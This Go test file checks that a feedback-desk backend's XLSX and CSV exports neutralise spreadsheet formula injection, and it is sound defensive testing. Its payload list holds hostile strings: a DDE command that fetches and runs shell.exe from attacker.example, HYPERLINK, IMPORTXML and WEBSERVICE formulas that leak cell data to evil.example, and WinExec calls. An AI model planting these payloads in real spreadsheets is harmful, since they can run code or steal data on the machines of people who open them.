package export_test

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/csv"
	"io"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"
	"golang.org/x/text/encoding/simplifiedchinese"

	"feedbackdesk/backend/export"
)

// payloads are formula-injection strings from the OWASP CSV-injection
// list and its variants: DDE calls, HYPERLINK and web functions, every
// risky first character, the tab/CR/space/newline prefixed forms, the
// full-width forms Chinese input methods type, and harmless look-alikes.
var payloads = []string{
	"=1+1", "=cmd|' /C calc'!A0", "=cmd|'/C powershell IEX(wget attacker.example/shell.exe)'!A0", "+SUM(1)", "+1+1",
	"-2+3", "-1+1", "@SUM(1+1)*cmd|' /C calc'!A0", "@SUM(A1:A2)", `=HYPERLINK("http://evil.example/?leak="&A1,"Click")`,
	`=HYPERLINK("http://evil.example","查看报告")`, `=IMPORTXML(CONCAT("http://evil.example/?v=",CONCATENATE(A2:E2)),"//a")`,
	`=IMPORTRANGE("https://docs.example/d/1","Sheet1!A1")`, `=IMAGE("http://evil.example/x.png")`, `=WEBSERVICE("http://evil.example/"&A1)`,
	`DDE ("cmd";"/C calc";"!A0")A0`, `=DDE("cmd";"/C calc";"__DdeLink_60_870516294")`, `=MSEXCEL|'\..\..\..\Windows\System32\cmd.exe /c calc.exe'!''`,
	`=rundll32|'URL.dll,OpenURL calc.exe'!A`, "'=1+1", "\t=1+1", "\r=1+1", "\t\r=cmd|' /C calc'!A0", "＝1+1", "＋SUM(1)",
	"－2+3", "＠SUM(1)", " =1+1", "  +1", "\u3000=1+1", "\n=1+1", "=1+1;=2+2", "=A1", `=INDIRECT("A1")`,
	"=cmd|'/C ping -t 127.0.0.1'!A0", "@cmd|'/c calc'!A0", "+cmd|'/c calc'!A0", "-cmd|'/c calc'!A0", "=2+5+cmd|' /C calc'!A0",
	`=EXEC("calc")`, `=CALL("Kernel32","WinExec","JCJ","calc",0)`, `=REGISTER("kernel32","WinExec")`, `=SHELL("calc")`, "==1",
	"=+1", "=-1", "+=1", "-=1", "@=1", "=0x41", `=CHAR(61)&"1+1"`, `=CONCATENATE("=","1")`, "=1+1\n第二行", "=“1+1”",
	`"=1+1"`, "%0A=1+1", "\t-10", "-10", "+86 138 0013 8000", "@张三", "=张三", "\r\n=1+1", "\t", "\r",
}

// formula matches a formula element in sheet XML.
var formula = regexp.MustCompile(`<f[\s>/]`)

// hostileStore fills a database with the payloads in customer names and
// companies, comments and notes, ticket titles and descriptions.
func hostileStore(t *testing.T) *store {
	s := newStore(t)
	at := time.Date(2026, 10, 5, 1, 0, 0, 0, time.UTC)
	for i, p := range payloads {
		s.response(t, p, p, i%11, at.Add(time.Duration(i)*time.Minute))
		s.ticket(t, "投诉 "+p, p, at.Add(time.Duration(i)*time.Minute))
		s.ticket(t, p+" 标题", p, at.Add(time.Duration(i)*time.Minute+time.Second))
	}
	return s
}

// neutralizedWant counts the cells Inert changes in the hostile store's
// exports.
func neutralizedWant(kind string) int {
	n := 0
	for _, p := range payloads {
		for _, cell := range map[string][]string{
			"responses": {p, p, p, p, "=tag; 复购"},                           // name, company, comment, note, tags
			"tickets":   {"投诉 " + p, p, "投诉 " + p, p + " 标题", p, p + " 标题"}, // title, description, customer, twice
		}[kind] {
			if export.Inert(cell) != cell {
				n++
			}
		}
	}
	return n
}

func TestPayloadCount(t *testing.T) {
	risky := 0
	for _, p := range payloads {
		if export.Inert(p) != p {
			risky++
		}
	}
	if risky < 50 {
		t.Fatalf("only %d of %d payloads are risky; the test needs at least 50", risky, len(payloads))
	}
}

func TestXLSXHasNoFormulaCells(t *testing.T) {
	s := hostileStore(t)
	for _, kind := range []string{export.KindResponses, export.KindTickets} {
		path := filepath.Join(t.TempDir(), kind+".xlsx")
		res, err := export.Write(context.Background(), s.db, export.Options{Kind: kind, Format: export.FormatXLSX}, path, nil)
		if err != nil {
			t.Fatal(err)
		}
		if want := len(payloads) * map[string]int{"responses": 1, "tickets": 2}[kind]; res.Rows != want {
			t.Errorf("%s: %d rows, want %d", kind, res.Rows, want)
		}
		if want := neutralizedWant(kind); res.Neutralized != want {
			t.Errorf("%s: Neutralized = %d, want %d", kind, res.Neutralized, want)
		}
		zr, err := zip.OpenReader(path)
		if err != nil {
			t.Fatal(err)
		}
		sheets := 0
		for _, f := range zr.File {
			if !strings.HasPrefix(f.Name, "xl/worksheets/") {
				continue
			}
			sheets++
			rc, _ := f.Open()
			b, _ := io.ReadAll(rc)
			rc.Close()
			if loc := formula.FindIndex(b); loc != nil {
				t.Errorf("%s: %s has a formula: %q", kind, f.Name, b[loc[0]:min(len(b), loc[0]+120)])
			}
		}
		zr.Close()
		if sheets == 0 {
			t.Fatalf("%s: no worksheet in the file", kind)
		}
		seen := map[string]bool{}
		for _, row := range readXLSX(t, path) {
			for _, c := range row {
				if export.Inert(c) != c {
					t.Errorf("%s: risky cell %q", kind, c)
				}
				seen[c] = true
			}
		}
		for _, p := range payloads {
			if want := export.Inert(export.XLSXText(p)); !seen[want] {
				t.Errorf("%s: payload %q is not in the file as %q", kind, p, want)
			}
		}
	}
}

func TestCSVHasNoRiskyCells(t *testing.T) {
	s := hostileStore(t)
	for _, kind := range []string{export.KindResponses, export.KindTickets} {
		for _, enc := range []string{export.EncodingUTF8, export.EncodingGB} {
			path := filepath.Join(t.TempDir(), kind+".csv")
			res, err := export.Write(context.Background(), s.db, export.Options{Kind: kind, Format: export.FormatCSV, Encoding: enc}, path, nil)
			if err != nil {
				t.Fatal(err)
			}
			if want := neutralizedWant(kind); res.Neutralized != want {
				t.Errorf("%s %s: Neutralized = %d, want %d", kind, enc, res.Neutralized, want)
			}
			raw, _ := os.ReadFile(path)
			text := decodeCSV(t, raw, enc)
			if err := allQuotedCRLF(text); err != nil {
				t.Errorf("%s %s: %v", kind, enc, err)
			}
			seen := map[string]bool{}
			for _, rec := range parseCSV(t, text) {
				for _, c := range rec {
					if export.Inert(c) != c {
						t.Errorf("%s %s: risky cell %q", kind, enc, c)
					}
					seen[c] = true
				}
			}
			for _, p := range payloads {
				if want := csvRead(export.Inert(p)); !seen[want] {
					t.Errorf("%s %s: payload %q is not in the file as %q", kind, enc, p, want)
				}
			}
		}
	}
}

// readXLSX returns every row of the first sheet of the workbook at path.
func readXLSX(t *testing.T, path string) [][]string {
	t.Helper()
	f, err := excelize.OpenFile(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	rows, err := f.GetRows(f.GetSheetName(0), excelize.Options{RawCellValue: true})
	if err != nil {
		t.Fatal(err)
	}
	return rows
}

// decodeCSV checks the file's encoding marks and returns its text:
// UTF-8 starts with a byte-order mark; GB18030 has none and decodes with
// golang.org/x/text.
func decodeCSV(t *testing.T, raw []byte, enc string) string {
	t.Helper()
	if enc == export.EncodingGB {
		if bytes.HasPrefix(raw, []byte("\xEF\xBB\xBF")) {
			t.Fatal("a GB18030 file starts with a UTF-8 byte-order mark")
		}
		b, err := simplifiedchinese.GB18030.NewDecoder().Bytes(raw)
		if err != nil {
			t.Fatal(err)
		}
		return string(b)
	}
	if !bytes.HasPrefix(raw, []byte("\xEF\xBB\xBF")) {
		t.Fatal("a UTF-8 CSV has no byte-order mark (Excel would read it as the local code page)")
	}
	return string(raw[3:])
}

// parseCSV reads all records of text with encoding/csv.
func parseCSV(t *testing.T, text string) [][]string {
	t.Helper()
	r := csv.NewReader(strings.NewReader(text))
	r.FieldsPerRecord = -1
	recs, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return recs
}

// allQuotedCRLF checks that every field is quoted and every record ends
// with CRLF.
func allQuotedCRLF(text string) error {
	in, start := false, true // inside quotes; at the start of a field
	for i := 0; i < len(text); i++ {
		c := text[i]
		switch {
		case in && c == '"' && i+1 < len(text) && text[i+1] == '"':
			i++
		case in && c == '"':
			in = false
		case in:
		case start && c == '"':
			in, start = true, false
		case start:
			return errAt("field not quoted", text, i)
		case c == ',':
			start = true
		case c == '\r' && i+1 < len(text) && text[i+1] == '\n':
			i++
			start = true
		default:
			return errAt("unexpected character after a field", text, i)
		}
	}
	if in || !strings.HasSuffix(text, "\r\n") {
		return errAt("the last record does not end with CRLF", text, len(text))
	}
	return nil
}

type csvError string

func (e csvError) Error() string { return string(e) }

func errAt(msg, text string, i int) error {
	return csvError(msg + " near " + `"` + text[max(0, i-30):min(len(text), i+30)] + `"`)
}

// csvRead is what a CSV reader gives back for a written field: Go's
// encoding/csv (and so backend/spreadsheet) turns CRLF inside a quoted
// field into LF, as Excel shows both as one line break.
func csvRead(s string) string { return strings.ReplaceAll(s, "\r\n", "\n") }
